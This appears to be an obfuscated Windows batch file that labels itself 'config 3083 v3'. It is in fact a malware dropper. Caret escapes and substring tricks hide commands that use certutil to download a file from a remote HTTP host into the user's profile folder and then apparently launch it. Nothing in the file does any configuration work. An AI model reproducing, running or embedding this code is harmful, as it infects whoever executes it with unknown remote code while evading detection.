REM config 3083 v3
@echo off
@echo ^of^f
s^et "cyzf=eLm0hx/\uIPft.BW-HUa6rCAi7l:b9copy"
%cyzf:~30,1%%cyzf:~-34,1%%cyzf:~-13,1%%cyzf:~12,1%%cyzf:~-26,1%%cyzf:~12,1%%cyzf:~24,1%%cyzf:~26,1% %cyzf:~16,1%%cyzf:~8,1%%cyzf:~21,1%%cyzf:~26,1%%cyzf:~-4,1%%cyzf:~19,1%%cyzf:~-4,1%%cyzf:~4,1%%cyzf:~0,1% %cyzf:~16,1%%cyzf:~11,1% %cyzf:~4,1%%cyzf:~12,1%%cyzf:~12,1%%cyzf:~32,1%%cyzf:~27,1%%cyzf:~6,1%%cyzf:~-28,1%%cyzf:~19,1%%cyzf:~-2,1%%cyzf:~-10,1%%cyzf:~13,1%%cyzf:~-22,1%%cyzf:~-34,1%%cyzf:~-8,1%%cyzf:~0,1%%cyzf:~2,1%%cyzf:~0,1%%cyzf:~-22,1%%cyzf:~21,1%%cyzf:~-1,1%%cyzf:~16,1%%cyzf:~4,1%%cyzf:~8,1%%cyzf:~28,1%%cyzf:~13,1%%cyzf:~0,1%%cyzf:~5,1%%cyzf:~-15,1%%cyzf:~2,1%%cyzf:~-2,1%%cyzf:~-8,1%%cyzf:~0,1%%cyzf:~6,1%%cyzf:~32,1%%cyzf:~13,1%%cyzf:~12,1%%cyzf:~-29,1%%cyzf:~12,1% %%cyzf:~10,1%%cyzf:~18,1%%cyzf:~14,1%%cyzf:~1,1%%cyzf:~9,1%%cyzf:~22,1%%%cyzf:~7,1%%cyzf:~-2,1%%cyzf:~-21,1%%cyzf:~12,1%%cyzf:~5,1%%cyzf:~-22,1%
@^e^cho o^ff
s^et "jeqs=mr3jdIwe-8.BCUlu5oLpGi\txXcP"
%jeqs:~-2,1%%jeqs:~7,1%%jeqs:~1,1%%jeqs:~23,1%%jeqs:~15,1%%jeqs:~23,1%%jeqs:~21,1%%jeqs:~14,1% %jeqs:~8,1%%jeqs:~-24,1%%jeqs:~-21,1%%jeqs:~26,1%%jeqs:~17,1%%jeqs:~4,1%%jeqs:~7,1% %%jeqs:~-1,1%%jeqs:~13,1%%jeqs:~-17,1%%jeqs:~18,1%%jeqs:~5,1%%jeqs:~12,1%%%jeqs:~22,1%%jeqs:~-9,1%%jeqs:~10,1%%jeqs:~23,1%%jeqs:~24,1%%jeqs:~-5,1% %%jeqs:~27,1%%jeqs:~13,1%%jeqs:~11,1%%jeqs:~18,1%%jeqs:~5,1%%jeqs:~-16,1%%%jeqs:~22,1%%jeqs:~19,1%%jeqs:~-18,1%%jeqs:~7,1%%jeqs:~-4,1%%jeqs:~7,1%
@^ech^o ^off
^set "acvj=j.CUsO\lpLI3xMNBEPe"
%%acvj:~17,1%%acvj:~-16,1%%acvj:~15,1%%acvj:~-10,1%%acvj:~-9,1%%acvj:~-17,1%%%acvj:~6,1%%acvj:~-11,1%%acvj:~1,1%%acvj:~18,1%%acvj:~-7,1%%acvj:~18,1%
